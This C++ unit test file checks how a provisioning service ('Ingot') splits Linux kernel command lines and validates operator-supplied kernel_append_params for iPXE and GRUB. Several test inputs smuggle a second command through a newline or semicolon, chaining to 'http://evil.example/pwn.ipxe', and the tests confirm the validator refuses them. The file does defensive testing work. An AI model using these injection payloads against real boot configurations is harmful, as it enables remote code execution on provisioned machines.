// The kernel command line as Linux splits it, and the checks on what
// operators write into kernel_append_params (boot/kernel_cmdline.h): what
// is refused says why, and what is accepted is split exactly as the kernel
// will split it.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "boot/boot_files.h"
#include "boot/kernel_cmdline.h"
#include "interfaces/base_interface.h"

using namespace ingot::boot;
using ingot::interfaces::InvalidParameter;

namespace {

KernelArg arg(std::string key) {
    return {std::move(key), std::nullopt};
}
KernelArg arg(std::string key, std::string value) {
    return {std::move(key), std::move(value)};
}

// The message of the InvalidParameter `f` throws ("" when none).
std::string refusal(const std::function<void()>& f) {
    try {
        f();
    } catch (const InvalidParameter& e) {
        return e.what();
    }
    return "";
}

bool contains(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

}  // namespace

TEST(BootKernelCmdline, SplitsAsLinuxDoes) {
    // Quotes group and vanish only around a whole argument or value.
    EXPECT_EQ(split_kernel_command_line("  nofb console=ttyS0,115200n8\tquiet "),
              (std::vector<KernelArg>{arg("nofb"), arg("console", "ttyS0,115200n8"), arg("quiet")}));
    EXPECT_EQ(split_kernel_command_line("acpi_osi=\"!Windows 2012\" \"dyndbg=file a.c +p\" x="),
              (std::vector<KernelArg>{arg("acpi_osi", "!Windows 2012"), arg("dyndbg", "file a.c +p"), arg("x", "")}));
    EXPECT_EQ(split_kernel_command_line("a=b\"c d\"e f"), (std::vector<KernelArg>{arg("a", "b\"c d\"e"), arg("f")}));
    EXPECT_EQ(split_kernel_command_line("root=UUID=1234-ABCD"),
              (std::vector<KernelArg>{arg("root", "UUID=1234-ABCD")}));
    EXPECT_EQ(split_kernel_command_line("=x =a=b"), (std::vector<KernelArg>{arg("=x"), arg("=a", "b")}));
    // Byte 0xA0 is a blank to Linux (lib/ctype.c): U+00E0 (C3 A0) splits.
    EXPECT_EQ(split_kernel_command_line("x=\xc3\xa0y"), (std::vector<KernelArg>{arg("x", "\xc3"), arg("y")}));
    EXPECT_TRUE(split_kernel_command_line(" \t ").empty());
}

TEST(BootKernelCmdline, ArgumentTextSplitsBackToTheSameArgument) {
    EXPECT_EQ(kernel_arg_text(arg("quiet")), "quiet");
    EXPECT_EQ(kernel_arg_text(arg("console", "ttyS0")), "console=ttyS0");
    EXPECT_EQ(kernel_arg_text(arg("acpi_osi", "!Windows 2012")), "acpi_osi=\"!Windows 2012\"");
    EXPECT_EQ(kernel_command_line({arg("a", "1"), arg("b"), arg("c", "x y")}), "a=1 b c=\"x y\"");
    EXPECT_TRUE(contains(refusal([] { kernel_arg_text(arg("a", "x\" y")); }), "double quote")) << "no text for it";
    EXPECT_FALSE(refusal([] { kernel_arg_text(arg("a b")); }).empty());
}

TEST(BootKernelCmdline, ParametersAreCheckedWithTheFieldNamed) {
    const std::string field = "kernel_append_params in the node's driver_info";
    auto why = [&](const std::string& text) { return refusal([&] { parse_kernel_params(text, field); }); };
    // The attack: a newline, then an iPXE command of its own.
    std::string r = why("console=ttyS0\nchain http://evil.example/pwn.ipxe");
    EXPECT_TRUE(contains(r, field) && contains(r, "a newline") && contains(r, "control character")) << r;
    EXPECT_TRUE(contains(why("a=1\r"), "carriage return"));
    EXPECT_TRUE(contains(why(std::string("a=\x1b[2J")), "0x1b"));
    EXPECT_TRUE(contains(why("a=\x7f"), "0x7f"));
    EXPECT_TRUE(contains(why("a=\xff\xfe"), "not valid UTF-8"));
    EXPECT_TRUE(contains(why("a=\"b c"), "unbalanced"));
    EXPECT_TRUE(contains(why(std::string(2048, 'a')), "2048 bytes"));
    // Shapes: what a loader could take for anything but an argument.
    EXPECT_TRUE(contains(why("#x"), "must start with a letter"));
    EXPECT_TRUE(contains(why(";"), "must start with a letter"));
    EXPECT_TRUE(contains(why("-x"), "must start with a letter"));
    EXPECT_TRUE(contains(why("a;b=1"), "before the '='"));
    EXPECT_TRUE(contains(why("$x"), "must start with a letter"));
    EXPECT_TRUE(contains(why("quiet -- single"), "init"));
    // What one of the formats cannot carry unchanged.
    EXPECT_TRUE(contains(why("x=${net0/ip}"), "iPXE")) << why("x=${net0/ip}");
    EXPECT_TRUE(contains(why("x=\"a ; chain http://evil.example/pwn.ipxe\""), "ends an iPXE command"));
    EXPECT_TRUE(contains(why("x=\"a && b\""), "ends an iPXE command"));
    EXPECT_TRUE(contains(why("x=\"a #b\""), "comment"));
    EXPECT_TRUE(contains(why("x=\"a  b\""), "two blanks"));
    EXPECT_TRUE(contains(why("x='a'"), "GRUB"));
    EXPECT_TRUE(contains(why("x=a\\b"), "GRUB"));
    EXPECT_TRUE(contains(why("x=a\"b\"c"), "GRUB")) << "a quote inside a value: GRUB would escape it";
    EXPECT_TRUE(contains(why("x=\xc3\xa0"), "0xA0")) << "U+00E0 would be split by the kernel";

    // Accepted: split as the kernel splits them.
    EXPECT_EQ(parse_kernel_params("nofb vga=normal console=tty0 console=ttyS0,115200n8", field).size(), 4u);
    EXPECT_EQ(parse_kernel_params("x=a;b y=$z w={v} u=a|b&c<d>e t=\"a ;b\" s=\xc3\xa9t\xc3\xa9 r=#", field),
              (std::vector<KernelArg>{arg("x", "a;b"), arg("y", "$z"), arg("w", "{v}"), arg("u", "a|b&c<d>e"),
                                      arg("t", "a ;b"), arg("s", "\xc3\xa9t\xc3\xa9"), arg("r", "#")}));
    EXPECT_EQ(parse_kernel_params("rd.lvm.lv=vg/root ipa-debug=1 8250.nr_uarts=4 _x", field).size(), 4u);
    EXPECT_TRUE(parse_kernel_params("", field).empty());
}

TEST(BootKernelCmdline, WhatIngotAddsIsCheckedToo) {
    EXPECT_NO_THROW(check_kernel_arg(arg("ipa-api-url", "http://10.0.2.2:6385"), "[conductor] api_url"));
    std::string r = refusal([] { check_kernel_arg(arg("ipa-api-url", "http://x/${a}"), "[conductor] api_url"); });
    EXPECT_TRUE(contains(r, "[conductor] api_url") && contains(r, "iPXE")) << r;
    r = refusal([] { check_kernel_arg(arg("BOOTIF", "01-52\nchain"), "the MAC address of the node's port"); });
    EXPECT_TRUE(contains(r, "MAC address") && contains(r, "newline")) << r;
}

TEST(BootKernelCmdline, TheApiRefusesWhatCannotFitOrBeWritten) {
    BootSettings settings;
    settings.api_url = "http://192.0.2.10:6385";
    using nlohmann::json;
    EXPECT_NO_THROW(check_kernel_append_params(json::object(), settings));
    EXPECT_NO_THROW(check_kernel_append_params({{"kernel_append_params", "console=ttyS0 nofb"}}, settings));
    EXPECT_NO_THROW(check_kernel_append_params({{"kernel_append_params", nullptr}}, settings));
    std::string r = refusal([&] { check_kernel_append_params({{"kernel_append_params", 42}}, settings); });
    EXPECT_TRUE(contains(r, "must be a string")) << r;
    r = refusal([&] {
        check_kernel_append_params({{"kernel_append_params", "a\nchain http://evil.example/pwn.ipxe"}}, settings);
    });
    EXPECT_TRUE(contains(r, "kernel_append_params") && contains(r, "newline")) << r;
    // The room left once Ingot's own arguments and the loaders' are counted.
    r = refusal([&] {
        check_kernel_append_params({{"kernel_append_params", "a=" + std::string(1900, 'x')}}, settings);
    });
    EXPECT_TRUE(contains(r, "1902 bytes") && contains(r, "at most") && contains(r, "2047")) << r;
    EXPECT_NO_THROW(check_kernel_append_params({{"kernel_append_params", "a=" + std::string(1700, 'x')}}, settings));
}
